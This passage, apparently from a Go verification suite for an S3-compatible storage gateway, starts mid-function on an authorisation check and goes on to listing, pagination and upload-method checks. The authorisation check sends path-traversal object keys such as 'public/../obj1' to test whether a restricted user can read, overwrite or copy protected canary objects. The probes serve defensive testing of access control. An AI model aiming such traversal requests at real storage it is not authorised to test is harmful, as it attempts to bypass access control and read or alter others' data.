		{"PUT", "public/copy", "public/../obj1"},
	} {
		req := NewReq(t.method, "/"+w.Bucket+"/"+t.wire, "", nil, nil)
		if t.method == "PUT" && t.hdr == "" {
			req.Body = []byte("overwrite attempt")
		}
		if t.hdr != "" {
			req.Set("x-amz-copy-source", w.Bucket+"/"+t.hdr)
		}
		gw.Sign(req, cUsr3, gw.SignOpts{})
		resp := w.F.G.Do(req)
		r.Add("evaluations", 1)
		r.Distinct("glob|" + t.method + t.wire + t.hdr)
		after := w.snap()
		var an []string
		if resp.Err == nil && (bytes.Contains(resp.Body, []byte(canaryObj1)) || bytes.Contains(resp.Body, []byte(canaryObj2))) {
			an = append(an, "unauthorised-object-returned")
		}
		for _, d := range base.Diff(after, 0) {
			if strings.Contains(d, "/root/"+w.Bucket+"/obj1 ") || strings.Contains(d, "/root/"+w.Bucket+"/dir/obj2 ") {
				an = append(an, "unauthorised-object-changed")
			}
			if strings.Contains(d, "/public/copy") {
				data, _ := os.ReadFile(filepath.Join(w.F.G.Root, w.Bucket, "public/copy"))
				if bytes.Contains(data, []byte(canaryObj1)) {
					an = append(an, "unauthorised-object-copied")
				}
			}
		}
		if len(an) > 0 {
			r.Violation(ck.JoinSig("policy-glob-vs-resolved-path", t.method, strings.Join(dedup(an), "+")), map[string]any{"request": req.String(), "headers": req.Headers, "response": resp.String(), "policy": pol})
		}
	}
}

// dropQuery removes every occurrence of a parameter from a raw query string.
func dropQuery(q, name string) string {
	var keep []string
	for _, kv := range strings.Split(q, "&") {
		if kv == "" || kv == name || strings.HasPrefix(kv, name+"=") {
			continue
		}
		keep = append(keep, kv)
	}
	return strings.Join(keep, "&")
}
