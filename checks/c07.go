package checks

import (
	"bytes"
	"fmt"
	"github.com/versity/versitygw/s3response"
	"sort"
	"strings"

	"github.com/aws/aws-sdk-go-v2/service/s3"

	"verif/ck"
)

func init() { Registry["C07"] = C07 }

var c07Universe = []string{"a.txt", "a/b", "a/c/d", "a-b", "a0", "b", "a b", "a/é", "ab/c", "c/", "a/", "a/c/"}

// lentry is one listing entry: an object key or a common prefix.
type lentry struct {
	Name string
	CP   bool
}

// refList: the S3 listing rules. Returns every entry (objects and common
// prefixes merged, ascending by name) for (keys, prefix, delimiter).
func refList(keys []string, prefix, delim string) []lentry {
	ks := append([]string{}, keys...)
	sort.Strings(ks)
	var out []lentry
	seen := map[string]bool{}
	for _, k := range ks {
		if !strings.HasPrefix(k, prefix) {
			continue
		}
		rest := k[len(prefix):]
		if delim != "" {
			if i := strings.Index(rest, delim); i >= 0 {
				cp := prefix + rest[:i+len(delim)]
				if !seen[cp] {
					seen[cp] = true
					out = append(out, lentry{cp, true})
				}
				continue
			}
		}
		out = append(out, lentry{k, false})
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

func subsetsUpTo(n, k int) [][]int {
	var out [][]int
	var rec func(start int, cur []int)
	rec = func(start int, cur []int) {
		out = append(out, append([]int{}, cur...))
		if len(cur) == k {
			return
		}
		for i := start; i < n; i++ {
			rec(i+1, append(cur, i))
		}
	}
	rec(0, nil)
	return out
}

type c07Lister struct {
	st  *pxStore
	api string // v1 | v2
}

type c07Page struct {
	Entries   []lentry // in the order: objects as returned, then common prefixes as returned (merged by name for comparison)
	Objs, CPs []string
	Truncated bool
	Next      string
	Sizes     map[string]int64
	ETags     map[string]string
	Err       string
}

func (l c07Lister) list(bucket, prefix, delim, start string, max int32) c07Page {
	pg := c07Page{Sizes: map[string]int64{}, ETags: map[string]string{}}
	if l.api == "v1" {
		res, err := l.st.A.ListObjects(l.st.ctx(), &s3.ListObjectsInput{Bucket: &bucket, Prefix: &prefix, Delimiter: &delim, Marker: &start, MaxKeys: &max})
		if err != nil {
			pg.Err = err.Error()
			return pg
		}
		for _, o := range res.Contents {
			pg.Objs = append(pg.Objs, getS(o.Key))
			pg.Sizes[getS(o.Key)] = getI(o.Size)
			pg.ETags[getS(o.Key)] = getS(o.ETag)
		}
		for _, c := range res.CommonPrefixes {
			pg.CPs = append(pg.CPs, getS(c.Prefix))
		}
		pg.Truncated = res.IsTruncated != nil && *res.IsTruncated
		pg.Next = getS(res.NextMarker)
	} else {
		empty := ""
		res, err := l.st.A.ListObjectsV2(l.st.ctx(), &s3.ListObjectsV2Input{Bucket: &bucket, Prefix: &prefix, Delimiter: &delim, StartAfter: &start, ContinuationToken: &empty, MaxKeys: &max})
		if err != nil {
			pg.Err = err.Error()
			return pg
		}
		for _, o := range res.Contents {
			pg.Objs = append(pg.Objs, getS(o.Key))
			pg.Sizes[getS(o.Key)] = getI(o.Size)
			pg.ETags[getS(o.Key)] = getS(o.ETag)
		}
		for _, c := range res.CommonPrefixes {
			pg.CPs = append(pg.CPs, getS(c.Prefix))
		}
		pg.Truncated = res.IsTruncated != nil && *res.IsTruncated
		pg.Next = getS(res.NextContinuationToken)
	}
	for _, o := range pg.Objs {
		pg.Entries = append(pg.Entries, lentry{o, false})
	}
	for _, c := range pg.CPs {
		pg.Entries = append(pg.Entries, lentry{c, true})
	}
	return pg
}

// listBoth is a V2 page request that carries start-after AND a continuation token, as SDK paginators send it.
func (l c07Lister) listBoth(bucket, prefix, delim, startAfter, token string, max int32) c07Page {
	pg := c07Page{Sizes: map[string]int64{}, ETags: map[string]string{}}
	res, err := l.st.A.ListObjectsV2(l.st.ctx(), &s3.ListObjectsV2Input{Bucket: &bucket, Prefix: &prefix, Delimiter: &delim, ContinuationToken: &token, StartAfter: &startAfter, MaxKeys: &max})
	if err != nil {
		pg.Err = err.Error()
		return pg
	}
	for _, o := range res.Contents {
		pg.Objs = append(pg.Objs, getS(o.Key))
		pg.Entries = append(pg.Entries, lentry{getS(o.Key), false})
	}
	for _, c := range res.CommonPrefixes {
		pg.CPs = append(pg.CPs, getS(c.Prefix))
		pg.Entries = append(pg.Entries, lentry{getS(c.Prefix), true})
	}
	pg.Truncated = res.IsTruncated != nil && *res.IsTruncated
	pg.Next = getS(res.NextContinuationToken)
	return pg
}

func (l c07Lister) listToken(bucket, prefix, delim, token string, max int32) c07Page {
	if l.api == "v1" {
		return l.list(bucket, prefix, delim, token, max)
	}
	pg := c07Page{Sizes: map[string]int64{}, ETags: map[string]string{}}
	res, err := l.st.A.ListObjectsV2(l.st.ctx(), &s3.ListObjectsV2Input{Bucket: &bucket, Prefix: &prefix, Delimiter: &delim, ContinuationToken: &token, StartAfter: new(string), MaxKeys: &max})
	if err != nil {
		pg.Err = err.Error()
		return pg
	}
	for _, o := range res.Contents {
		pg.Objs = append(pg.Objs, getS(o.Key))
		pg.Sizes[getS(o.Key)] = getI(o.Size)
		pg.ETags[getS(o.Key)] = getS(o.ETag)
		pg.Entries = append(pg.Entries, lentry{getS(o.Key), false})
	}
	for _, c := range res.CommonPrefixes {
		pg.CPs = append(pg.CPs, getS(c.Prefix))
		pg.Entries = append(pg.Entries, lentry{getS(c.Prefix), true})
	}
	pg.Truncated = res.IsTruncated != nil && *res.IsTruncated
	pg.Next = getS(res.NextContinuationToken)
	return pg
}

func sortedAsc(ss []string) bool { return sort.StringsAreSorted(ss) }

func entryKind(e lentry) string {
	switch {
	case e.CP:
		return "common-prefix"
	case strings.HasSuffix(e.Name, "/"):
		return "dir-object"
	}
	return "object"
}

func delimClass(d string) string {
	switch d {
	case "":
		return "no-delimiter"
	case "/":
		return "slash"
	}
	return "other-delimiter"
}

// hasOrderTrap: some key has a sibling that sorts before '/' next to a directory of the same stem (a.txt vs a/…).
func hasOrderTrap(keys []string) bool {
	for _, k := range keys {
		i := strings.Index(k, "/")
		if i < 0 {
			continue
		}
		stem := k[:i]
		for _, o := range keys {
			if strings.HasPrefix(o, stem) && len(o) > len(stem) && o[len(stem)] < '/' {
				return true
			}
		}
	}
	return false
}

func C07(r *ck.Run) {
	maxSet := 4
	if r.Thorough() {
		maxSet = 6
	}
	r.Rule(fmt.Sprintf("every subset of size <= %d of a 12-key universe chosen for order traps (siblings sorting before '/', explicit directory objects, nested prefixes, keys that are prefixes of others) built with real PutObject calls (followed by two refused uploads below new directories and a delete of a missing key, which must leave no trace) × every prefix of every key (+8 non-matching, among them prefixes with a leading, empty or dot path element) × delimiter {none,'/','b','-','a/'} × (full listing, pagination walks with max-keys 1,2,3 following the returned markers, every start position from a menu, max-keys 0) through posix ListObjects and ListObjectsV2; plus keys that carry the temp directory's name below the top level (stored, so listed); distinct = (set, prefix, delimiter, mode, start, api)", maxSet))
	r.Assume("a start position strictly inside a common prefix may or may not repeat that prefix; everything else follows the S3 listing rules exactly")
	subsets := subsetsUpTo(len(c07Universe), maxSet)
	delims := []string{"", "/", "b", "-", "a/"}
	r.Sharded(16, func() {
		st := newPxStore("c07", pxCfg{})
		defer st.Close()
		if r.ShardI <= 0 {
			c07TmpNames(r, st)
		}
		for si, sub := range subsets {
			if !r.Mine(si) {
				continue
			}
			var keys []string
			for _, i := range sub {
				keys = append(keys, c07Universe[i])
			}
			st.wipe()
			st.mkBucket("lb")
			bodies := map[string][]byte{}
			for i, k := range keys {
				body := Pattern(3+i, byte(i))
				if strings.HasSuffix(k, "/") {
					body = nil
				}
				bodies[k] = body
				if err := st.put(st.A, "lb", k, wval{Body: body, CT: "text/plain", Meta: "m"}); err != nil {
					ck.Fatal("put %q: %v", k, err)
				}
			}
			// uploads that are refused (fewer bytes than declared) below directories that do not exist yet, and one
			// delete of a key that never existed: neither may leave anything a listing shows
			for _, k := range []string{"zq/new/dir/k", "zq/k2"} {
				full := Pattern(9, 1)
				_, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp("lb"), Key: sp(k), Body: bytes.NewReader(full[:4]), ContentLength: i64(int64(len(full)))})
				if err == nil {
					ck.Fatal("short upload of %q was accepted", k)
				}
			}
			st.A.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp("lb"), Key: sp("zq/never/existed")})
			trap := hasOrderTrap(keys)
			hasDirObj := false
			for _, k := range keys {
				if strings.HasSuffix(k, "/") {
					hasDirObj = true
				}
			}
			// "zz" matches no key; neither do prefixes with a leading, an empty or a dot path element (no key has one)
			prefixes := map[string]bool{"": true, "zz": true, "/": true, "/a": true, "/a/": true, "a//": true, "a//b": true, "./a": true, "a/../a": true}
			for _, k := range keys {
				for i := 1; i <= len(k); i++ {
					prefixes[k[:i]] = true
				}
			}
			var pl []string
			for p := range prefixes {
				pl = append(pl, p)
			}
			sort.Strings(pl)
			for _, api := range []string{"v1", "v2"} {
				l := c07Lister{st, api}
				for _, prefix := range pl {
					for _, delim := range delims {
						want := refList(keys, prefix, delim)
						report := func(anomaly string, e lentry, mode, start string, extra map[string]any) {
							tr := "no-order-trap"
							if trap {
								tr = "order-trap-in-set"
							}
							det := map[string]any{"keys": keys, "prefix": prefix, "delimiter": delim, "api": api, "mode": mode, "start": start, "entry": e.Name, "expected": fmtEntries(want)}
							for k, v := range extra {
								det[k] = v
							}
							if hasDirObj {
								tr += "+dir-object-in-set"
							}
							sk := ""
							if mode == "start" {
								sk = "start:other"
								for _, w := range want {
									switch {
									case w.Name == start:
										sk = "start:is-entry"
									case w.CP && strings.HasPrefix(start, w.Name) && sk != "start:is-entry":
										sk = "start:inside-common-prefix"
									case strings.HasPrefix(w.Name, start) && sk == "start:other":
										sk = "start:prefix-of-entry"
									}
								}
							}
							r.Violation(ck.JoinSig(anomaly, entryKind(e), delimClass(delim), mode, tr, sk), det)
						}
						check := func(got []lentry, wantE []lentry, optional map[string]bool, mode, start string, extra map[string]any) bool {
							ok := true
							gi := map[string]bool{}
							var names []string
							for _, e := range got {
								if gi[e.Name] {
									report("duplicate-entry", e, mode, start, extra)
									ok = false
								}
								gi[e.Name] = true
								names = append(names, e.Name)
							}
							wi := map[string]lentry{}
							for _, e := range wantE {
								wi[e.Name] = e
								if !gi[e.Name] {
									report("missing-entry", e, mode, start, extra)
									ok = false
								}
							}
							for _, e := range got {
								w, in := wi[e.Name]
								if !in && !optional[e.Name] {
									report("extra-entry", e, mode, start, extra)
									ok = false
								} else if in && w.CP != e.CP {
									report("entry-kind-confused", e, mode, start, extra)
									ok = false
								}
								if strings.Contains(e.Name, ".sgwtmp") {
									report("bookkeeping-name-listed", e, mode, start, extra)
									ok = false
								}
							}
							return ok
						}
						// full listing
						pg := l.list("lb", prefix, delim, "", 1000)
						r.Add("evaluations", 1)
						r.Distinct(fmt.Sprintf("%v|%s|%s|full|%s", sub, prefix, delim, api))
						extra := map[string]any{"objects": pg.Objs, "common_prefixes": pg.CPs}
						if pg.Err != "" {
							report("listing-error", lentry{}, "full", "", map[string]any{"error": pg.Err})
							continue
						}
						ok := check(pg.Entries, want, nil, "full", "", extra)
						if !sortedAsc(pg.Objs) || !sortedAsc(pg.CPs) {
							report("not-ascending", lentry{}, "full", "", extra)
							ok = false
						}
						if pg.Truncated {
							report("truncated-without-reaching-max-keys", lentry{}, "full", "", extra)
						}
						for _, o := range pg.Objs {
							if b, in := bodies[o]; in && (pg.Sizes[o] != int64(len(b)) || (len(b) > 0 && pg.ETags[o] != etagOf(b))) {
								report("wrong-size-or-etag", lentry{Name: o}, "full", "", extra)
							}
						}
						r.Outcome(fmt.Sprintf("full:%v", ok))
						// max-keys 0
						z := l.list("lb", prefix, delim, "", 0)
						r.Add("evaluations", 1)
						if len(z.Entries) != 0 || z.Truncated {
							report("max-keys-0-not-empty", lentry{}, "max0", "", nil)
						}
						// pagination walks
						for _, mk := range []int32{1, 2, 3} {
							var all []lentry
							token := ""
							pages := 0
							okw := true
							for {
								var p c07Page
								if pages == 0 {
									p = l.list("lb", prefix, delim, "", mk)
								} else {
									p = l.listToken("lb", prefix, delim, token, mk)
								}
								r.Add("evaluations", 1)
								pages++
								if p.Err != "" {
									report("listing-error", lentry{}, "walk", token, map[string]any{"error": p.Err})
									okw = false
									break
								}
								if int32(len(p.Entries)) > mk {
									report("page-exceeds-max-keys", lentry{}, "walk", token, map[string]any{"page": fmtEntries(p.Entries)})
									okw = false
								}
								all = append(all, p.Entries...)
								if !p.Truncated {
									break
								}
								if p.Next == "" {
									report("truncated-without-marker", lentry{}, "walk", token, nil)
									okw = false
									break
								}
								token = p.Next
								if pages > len(want)+3 {
									report("pagination-does-not-terminate", lentry{}, "walk", token, map[string]any{"collected": fmtEntries(all)})
									okw = false
									break
								}
							}
							r.Distinct(fmt.Sprintf("%v|%s|%s|walk%d|%s", sub, prefix, delim, mk, api))
							if okw {
								okw = check(all, want, nil, "walk", fmt.Sprintf("max-keys=%d", mk), map[string]any{"collected": fmtEntries(all)})
							}
							r.Outcome(fmt.Sprintf("walk:%v", okw))
						}
						// start positions (marker / start-after), max 1000
						starts := map[string]bool{}
						for _, e := range want {
							starts[e.Name] = true
							starts[e.Name+"0"] = true
							if len(e.Name) > 1 {
								starts[e.Name[:len(e.Name)-1]] = true
							}
						}
						starts["~"] = true
						starts[" "] = true
						var sl []string
						for s := range starts {
							sl = append(sl, s)
						}
						sort.Strings(sl)
						for _, start := range sl {
							var req []lentry
							opt := map[string]bool{}
							for _, e := range want {
								if e.Name > start {
									req = append(req, e)
								} else if e.CP && strings.HasPrefix(start, e.Name) {
									// start strictly inside this common prefix: it has members beyond start?
									for _, k := range keys {
										if strings.HasPrefix(k, e.Name) && k > start {
											opt[e.Name] = true
										}
									}
								}
							}
							p := l.list("lb", prefix, delim, start, 1000)
							r.Add("evaluations", 1)
							r.Distinct(fmt.Sprintf("%v|%s|%s|start=%s|%s", sub, prefix, delim, start, api))
							if p.Err != "" {
								report("listing-error", lentry{}, "start", start, map[string]any{"error": p.Err})
								continue
							}
							oks := check(p.Entries, req, opt, "start", start, map[string]any{"objects": p.Objs, "common_prefixes": p.CPs})
							r.Outcome(fmt.Sprintf("start:%v", oks))
							if api == "v2" && len(req) > 1 {
								// a paginated walk from this start position that re-sends start-after with every token
								for _, mk := range []int32{1, 2} {
									var all []lentry
									token, pages, okw := "", 0, true
									for {
										var p c07Page
										if pages == 0 {
											p = l.list("lb", prefix, delim, start, mk)
										} else {
											p = l.listBoth("lb", prefix, delim, start, token, mk)
										}
										r.Add("evaluations", 1)
										pages++
										if p.Err != "" {
											report("listing-error", lentry{}, "start-walk", start, map[string]any{"error": p.Err})
											okw = false
											break
										}
										all = append(all, p.Entries...)
										if !p.Truncated {
											break
										}
										if p.Next == "" {
											report("truncated-without-marker", lentry{}, "start-walk", start, nil)
											okw = false
											break
										}
										token = p.Next
										if pages > len(want)+3 {
											report("pagination-does-not-terminate", lentry{}, "start-walk", start, map[string]any{"collected": fmtEntries(all)})
											okw = false
											break
										}
									}
									r.Distinct(fmt.Sprintf("%v|%s|%s|start=%s|walk%d|%s", sub, prefix, delim, start, mk, api))
									if okw {
										okw = check(all, req, opt, "start-walk", start, map[string]any{"collected": fmtEntries(all), "max-keys": mk})
									}
									r.Outcome(fmt.Sprintf("start-walk:%v", okw))
								}
							}
						}
					}
				}
			}
			if si == 100 {
				r.Sample(map[string]any{"keys": keys, "prefix": "a", "delimiter": "/", "expected": fmtEntries(refList(keys, "a", "/"))})
			}
		}
	})
}

// c07TmpNames: the gateway's temp directory is a name only at the top level of a bucket; keys that carry that name
// deeper down are ordinary keys and are listed like any other.
func c07TmpNames(r *ck.Run, st *pxStore) {
	keys := []string{"a/.sgwtmp/x", "a/b", "a/.sgwtmp.txt", "z/y/.sgwtmp/multipart/k", "top"}
	st.wipe()
	st.mkBucket("lb")
	for i, k := range keys {
		if err := st.put(st.A, "lb", k, wval{Body: Pattern(3+i, byte(i)), CT: "text/plain", Meta: "m"}); err != nil {
			// a gateway may refuse such keys outright; what it stores it must list
			keys = append(keys[:i:i], keys[i+1:]...)
			r.Outcome("tmp-name-key-refused")
		}
	}
	for _, api := range []string{"v1", "v2"} {
		l := c07Lister{st, api}
		for _, prefix := range []string{"", "a/", "a/.sgwtmp/", "z/"} {
			for _, delim := range []string{"", "/"} {
				want := refList(keys, prefix, delim)
				pg := l.list("lb", prefix, delim, "", 1000)
				r.Add("evaluations", 1)
				r.Distinct(fmt.Sprintf("tmp-names|%s|%s|%s", prefix, delim, api))
				got := map[string]bool{}
				for _, e := range pg.Entries {
					got[e.Name] = true
				}
				for _, e := range want {
					if !got[e.Name] {
						r.Violation(ck.JoinSig("temp-directory-name-below-top-level", "stored-key-not-listed", delimClass(delim)), map[string]any{"keys": keys, "prefix": prefix, "delimiter": delim, "api": api, "expected": fmtEntries(want), "listed": fmtEntries(pg.Entries), "error": pg.Err})
						break
					}
				}
			}
		}
	}
}

func fmtEntries(es []lentry) string {
	var b bytes.Buffer
	for i, e := range es {
		if i > 0 {
			b.WriteString(" ")
		}
		if e.CP {
			b.WriteString("[" + e.Name + "]")
		} else {
			b.WriteString(e.Name)
		}
	}
	return b.String()
}
