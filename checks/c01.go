package checks

import (
	"bytes"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"encoding/xml"
	"fmt"
	"net/url"
	"os"
	"sort"
	"strings"

	"github.com/versity/versitygw/backend"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C01"] = C01 }

// ---------------------------------------------------------------- storage configurations

type c01Cfg struct {
	Name    string
	Opts    gw.Opts
	Enabled bool // bucket versioning Enabled (needs the versioning directory)
}

func c01Cfgs(thorough bool) []c01Cfg {
	all := []c01Cfg{
		{Name: "xattr,otmpfile", Opts: gw.Opts{}},
		{Name: "xattr,named-temp", Opts: gw.Opts{NoTmpFile: true}},
		{Name: "sidecar,otmpfile", Opts: gw.Opts{Sidecar: true}},
		{Name: "xattr,otmpfile,verdir,Enabled", Opts: gw.Opts{Versioning: true}, Enabled: true},
		{Name: "sidecar,named-temp", Opts: gw.Opts{Sidecar: true, NoTmpFile: true}},
		{Name: "xattr,otmpfile,verdir", Opts: gw.Opts{Versioning: true}},
		{Name: "xattr,named-temp,verdir", Opts: gw.Opts{NoTmpFile: true, Versioning: true}},
		{Name: "sidecar,otmpfile,verdir", Opts: gw.Opts{Sidecar: true, Versioning: true}},
		{Name: "sidecar,named-temp,verdir,Enabled", Opts: gw.Opts{Sidecar: true, NoTmpFile: true, Versioning: true}, Enabled: true},
		{Name: "sidecar,otmpfile,verdir,Enabled", Opts: gw.Opts{Sidecar: true, Versioning: true}, Enabled: true},
	}
	if thorough {
		return all
	}
	return all[:4]
}

// c01Env: two gateway "processes" A and B on one storage, restartable.
type c01Env struct {
	cfg  c01Cfg
	dir  string
	gws  [2]*gw.GW
	rm   func()
	objs []c01Stored // acknowledged objects of the current batch (for the after-restart pass)
}

type c01Stored struct {
	Part   string
	Class  string
	Bucket string
	Key    string
	Want   *c01Want
	Detail map[string]any
}

const c01Bucket = "c01bkt"

func newC01Env(cfg c01Cfg) *c01Env {
	dir, rm := ck.Scratch("c01")
	e := &c01Env{cfg: cfg, dir: dir, rm: rm}
	o := cfg.Opts
	o.Dir = dir
	for i := range e.gws {
		g, err := gw.New(o)
		if err != nil {
			ck.Fatal("c01 gateway: %v", err)
		}
		e.gws[i] = g
	}
	r := NewReq("PUT", "/"+c01Bucket, "", nil, nil)
	gw.Sign(r, gw.Root, gw.SignOpts{})
	Must(e.gws[0].Do(r), "create bucket")
	if cfg.Enabled {
		r := NewReq("PUT", "/"+c01Bucket, "versioning", nil, []byte(`<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>`))
		gw.Sign(r, gw.Root, gw.SignOpts{})
		Must(e.gws[1].Do(r), "enable versioning")
	}
	return e
}

func (e *c01Env) restart() {
	o := e.cfg.Opts
	o.Dir = e.dir
	for i := range e.gws {
		e.gws[i].Close()
		g, err := gw.New(o)
		if err != nil {
			ck.Fatal("c01 restart: %v", err)
		}
		e.gws[i] = g
	}
}

func (e *c01Env) Close() {
	for _, g := range e.gws {
		g.Close()
	}
	e.rm()
}

// ---------------------------------------------------------------- what was supplied

type c01Meta struct {
	Name string
	Hdrs [][2]string // content headers and x-amz-meta-*
	Tags string      // x-amz-tagging value ("" none)
}

func c01Metas(thorough bool) []c01Meta {
	long := strings.Repeat("v", 1500)
	var many [][2]string
	for i := 0; i < 20; i++ {
		many = append(many, [2]string{fmt.Sprintf("x-amz-meta-k%02d", i), fmt.Sprintf("value-%d", i)})
	}
	ms := []c01Meta{
		{Name: "none"},
		{Name: "one-meta", Hdrs: H("x-amz-meta-color", "Blue")},
		{Name: "content-headers", Hdrs: H("Content-Type", "text/plain; charset=utf-8", "Cache-Control", "no-cache, max-age=0", "Content-Disposition", `attachment; filename="a b.txt"`, "Content-Encoding", "gzip", "Content-Language", "en-US", "Expires", "Wed, 21 Oct 2037 07:28:00 GMT")},
		{Name: "meta+tags", Hdrs: H("x-amz-meta-a", "1", "x-amz-meta-b", "two words", "Content-Type", "application/json"), Tags: "k1=v1&k2=v2"},
		{Name: "mixed-case-meta", Hdrs: H("X-Amz-Meta-CamelCase", "MiXeD", "x-amz-meta-with-dash", "d-1", "x-amz-meta-num123", "0")},
		{Name: "tags-escaped", Tags: "sp%20ace=pl%2Bus&e=&path=a%2Fb%3Ac%40d"},
		{Name: "empty-meta-value", Hdrs: H("x-amz-meta-empty", "", "x-amz-meta-full", "x")},
	}
	if thorough {
		ms = append(ms,
			c01Meta{Name: "long-value", Hdrs: H("x-amz-meta-long", long)},
			c01Meta{Name: "many-meta", Hdrs: many},
			c01Meta{Name: "ten-tags", Tags: "t0=0&t1=1&t2=2&t3=3&t4=4&t5=5&t6=6&t7=7&t8=8&t9=9"},
			c01Meta{Name: "punct-values", Hdrs: H("x-amz-meta-p", "a,b;c=d/e:f@g(h)[i]{j}", "Content-Type", "application/x-www-form-urlencoded")},
			c01Meta{Name: "content-type-only", Hdrs: H("Content-Type", "image/png")},
			c01Meta{Name: "encoding-only", Hdrs: H("Content-Encoding", "br")},
		)
	}
	return ms
}

// c01Want is the reference model of one acknowledged object.
type c01Want struct {
	Body   []byte
	ETags  []string          // acceptable ETags (quoted)
	Hdrs   map[string]string // content headers expected on GET/HEAD ("" = must be absent)
	Meta   map[string]string // lower-case x-amz-meta-* names -> value (exact set)
	Tags   map[string]string
	Csum   map[string]string // algo -> base64 value that was supplied with the upload
	IsMP   bool
	NParts int
	// DefaultCT: no Content-Type was supplied (the gateway default is expected)
	DefaultCT bool
	// MustReport: checksum algorithm the upload was created with; GET/HEAD in checksum mode must report it
	MustReport string
	// Also: other objects the upload read from and must leave exactly as they were (a copy's source)
	AlsoKey  string
	AlsoWant *c01Want
}

var c01ContentHdrs = []string{"Content-Type", "Cache-Control", "Content-Disposition", "Content-Encoding", "Content-Language", "Expires"}

func c01WantOf(body []byte, m c01Meta) *c01Want {
	w := &c01Want{Body: body, ETags: []string{etagOf(body)}, Hdrs: map[string]string{}, Meta: map[string]string{}, Tags: map[string]string{}, Csum: map[string]string{}}
	for _, h := range c01ContentHdrs {
		w.Hdrs[h] = ""
	}
	w.Hdrs["Content-Type"] = "binary/octet-stream"
	w.DefaultCT = true
	for _, h := range m.Hdrs {
		l := strings.ToLower(h[0])
		if strings.HasPrefix(l, "x-amz-meta-") {
			w.Meta[l] = h[1]
			continue
		}
		for _, c := range c01ContentHdrs {
			if strings.EqualFold(c, h[0]) {
				w.Hdrs[c] = h[1]
				if c == "Content-Type" {
					w.DefaultCT = false
				}
			}
		}
	}
	if m.Tags != "" {
		for _, kv := range strings.Split(m.Tags, "&") {
			p := strings.SplitN(kv, "=", 2)
			k, _ := url.QueryUnescape(p[0])
			v := ""
			if len(p) == 2 {
				v, _ = url.QueryUnescape(p[1])
			}
			w.Tags[k] = v
		}
	}
	return w
}

// ---------------------------------------------------------------- upload methods

type c01Method struct {
	Name  string // full name (with split / algorithm)
	Class string // class used in signatures
	// Min is the smallest body the method applies to
	Min int
	// Up performs the upload through gateways (up[0] for the first request, alternating) and returns the
	// final acknowledgement (nil: the method does not apply) and updates want (ETag, checksums).
	Up func(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp
}

func c01Splits(n int, names []string) map[string][]int {
	out := map[string][]int{}
	for _, nm := range names {
		switch nm {
		case "one":
			out[nm] = []int{n}
		case "c5":
			if n > 5 && n <= 80 {
				var s []int
				for i := 0; i < n; i += 5 {
					s = append(s, 5)
				}
				out[nm] = s
			}
		case "c8192":
			if n > 8192 {
				var s []int
				for i := 0; i < n; i += 8192 {
					s = append(s, 8192)
				}
				out[nm] = s
			}
		case "c65536":
			if n > 65536 {
				var s []int
				for i := 0; i < n; i += 65536 {
					s = append(s, 65536)
				}
				out[nm] = s
			}
		case "uneven":
			if n >= 3 {
				out[nm] = []int{1, n - 2, 1}
			}
		}
	}
	return out
}

func withHdrs(base [][2]string, m c01Meta) [][2]string {
	h := append([][2]string{}, base...)
	h = append(h, m.Hdrs...)
	if m.Tags != "" {
		h = append(h, [2]string{"x-amz-tagging", m.Tags})
	}
	return h
}

// chunkedHdrs adds the aws-chunked framing headers (Content-Encoding keeps the object's own coding after aws-chunked).
func chunkedHdrs(r *gw.Req, n int, trailer string) {
	r.Set("x-amz-decoded-content-length", fmt.Sprint(n))
	if ce := r.Get("Content-Encoding"); ce != "" {
		r.Set("Content-Encoding", "aws-chunked,"+ce)
	} else {
		r.Set("Content-Encoding", "aws-chunked")
	}
	if trailer != "" {
		r.Set("x-amz-trailer", "x-amz-checksum-"+trailer)
	}
}

// c01SendBody sends body to path/query with one payload encoding; enc = "signed" | "unsigned" | "hdr:<algo>" | "md5" |
// "ss:<split>" | "sst:<algo>:<split>" | "sut:<algo>:<split>" | "presigned"
func c01SendBody(g *gw.GW, method, path, query string, hdrs [][2]string, body []byte, enc string, sizes []int, w *c01Want) *gw.Resp {
	r := NewReq(method, path, query, hdrs, body)
	f := strings.Split(enc, ":")
	switch f[0] {
	case "signed":
		gw.Sign(r, gw.Root, gw.SignOpts{})
	case "unsigned":
		gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.Unsigned})
	case "md5":
		r.Set("Content-MD5", gw.MD5B64(body))
		gw.Sign(r, gw.Root, gw.SignOpts{})
	case "hdr":
		v := gw.Checksum(f[1], body)
		r.Set("x-amz-checksum-"+f[1], v)
		if w != nil {
			w.Csum[f[1]] = v
		}
		gw.Sign(r, gw.Root, gw.SignOpts{})
	case "ss":
		chunkedHdrs(r, len(body), "")
		sg := gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.StreamSigned})
		r.Body, _ = gw.EncodeSigned(sg, gw.SplitChunks(body, sizes), "")
	case "sst":
		chunkedHdrs(r, len(body), f[1])
		sg := gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.StreamSignedTrailer})
		r.Body, _ = gw.EncodeSigned(sg, gw.SplitChunks(body, sizes), f[1])
		if w != nil {
			w.Csum[f[1]] = gw.Checksum(f[1], body)
		}
	case "sut":
		chunkedHdrs(r, len(body), f[1])
		gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.StreamUnsignedTrailer})
		r.Body, _ = gw.EncodeUnsigned(gw.SplitChunks(body, sizes), f[1])
		if w != nil {
			w.Csum[f[1]] = gw.Checksum(f[1], body)
		}
	case "presigned":
		gw.Presign(r, gw.Root, gw.SignOpts{}, 300)
	default:
		ck.Fatal("c01: unknown encoding %q", enc)
	}
	return g.Do(r)
}

func md5raw(b []byte) []byte { h := md5.Sum(b); return h[:] }

func mpETagParts(parts [][]byte) string {
	var cat []byte
	for _, p := range parts {
		cat = append(cat, md5raw(p)...)
	}
	return fmt.Sprintf(`"%s-%d"`, hex.EncodeToString(md5raw(cat)), len(parts))
}

// c01Multipart: create (with metadata), upload parts (numbers, order, encodings given), complete.
type c01MPPlan struct {
	Name    string
	Cut     func(n int) []int // part sizes (nil: not applicable)
	Numbers func(k int) []int // part numbers for k parts (ascending)
	Order   string            // asc | desc
	Redo    bool              // part 1 is first uploaded with other content, then overwritten
